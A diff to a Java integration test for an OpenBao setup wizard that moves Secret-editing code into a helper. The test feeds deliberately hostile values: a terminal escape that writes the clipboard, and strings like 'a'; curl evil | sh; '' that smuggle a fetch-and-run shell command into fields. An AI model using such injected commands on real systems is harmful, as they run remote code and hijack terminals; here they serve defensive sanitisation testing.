@@ -504,18 +504,7 @@ class OpenBaoWizardIT {
     CliHarness.Result first = fixture.runWithRootToken(new CliHarness(), "bao");
     assertThat(first.exitCode()).as(first.toString()).isZero();
     String oldAccessor = BackendObjects.decoded(secret("bao-token"), "accessor").orElseThrow();
-    client
-        .secrets()
-        .inNamespace(fixture.namespace)
-        .withName("bao-token")
-        .edit(
-            s ->
-                new SecretBuilder(s)
-                    .editMetadata()
-                    .addToAnnotations(
-                        TokenSecretBinding.ADDRESS_ANNOTATION, "https://old-bao.example:8200")
-                    .endMetadata()
-                    .build());
+    boundTo("https://old-bao.example:8200", Map.of());
 
     CliHarness.Result moved = fixture.runWithRootToken(new CliHarness(), "bao");
 
@@ -543,20 +532,9 @@ class OpenBaoWizardIT {
   void hostileSpecAndSecretValuesReachTheTerminalNeitherAsEscapesNorAsCommandsToPaste() {
     CliHarness.Result first = fixture.runWithRootToken(new CliHarness(), "bao");
     assertThat(first.exitCode()).as(first.toString()).isZero();
-    client
-        .secrets()
-        .inNamespace(fixture.namespace)
-        .withName("bao-token")
-        .edit(
-            s ->
-                new SecretBuilder(s)
-                    .editMetadata()
-                    .addToAnnotations(
-                        TokenSecretBinding.ADDRESS_ANNOTATION,
-                        "https://evil\u001b]52;c;ZXZpbA==\u0007.example:8200")
-                    .endMetadata()
-                    .addToStringData("accessor", "a'; curl evil | sh; '")
-                    .build());
+    boundTo(
+        "https://evil\u001b]52;c;ZXZpbA==\u0007.example:8200",
+        Map.of("accessor", "a'; curl evil | sh; '"));
     String hostileRole = "x; curl -s https://evil/p | sh #\u001b]0;owned\u0007";
     tuneRotation("24h", "10m", "2m");
     client
@@ -1097,6 +1075,22 @@ class OpenBaoWizardIT {
                 .withData(bound.getData())
                 .build())
         .create();
+  }
+
+  /** Binds Secret bao-token to {@code address}, as whoever may edit Secrets could. */
+  private void boundTo(String address, Map<String, String> stringData) {
+    client
+        .secrets()
+        .inNamespace(fixture.namespace)
+        .withName("bao-token")
+        .edit(
+            s ->
+                new SecretBuilder(s)
+                    .editMetadata()
+                    .addToAnnotations(TokenSecretBinding.ADDRESS_ANNOTATION, address)
+                    .endMetadata()
+                    .addToStringData(stringData)
+                    .build());
   }
 
   /** Sets the backend's rotation timing as a person editing it by hand would. */
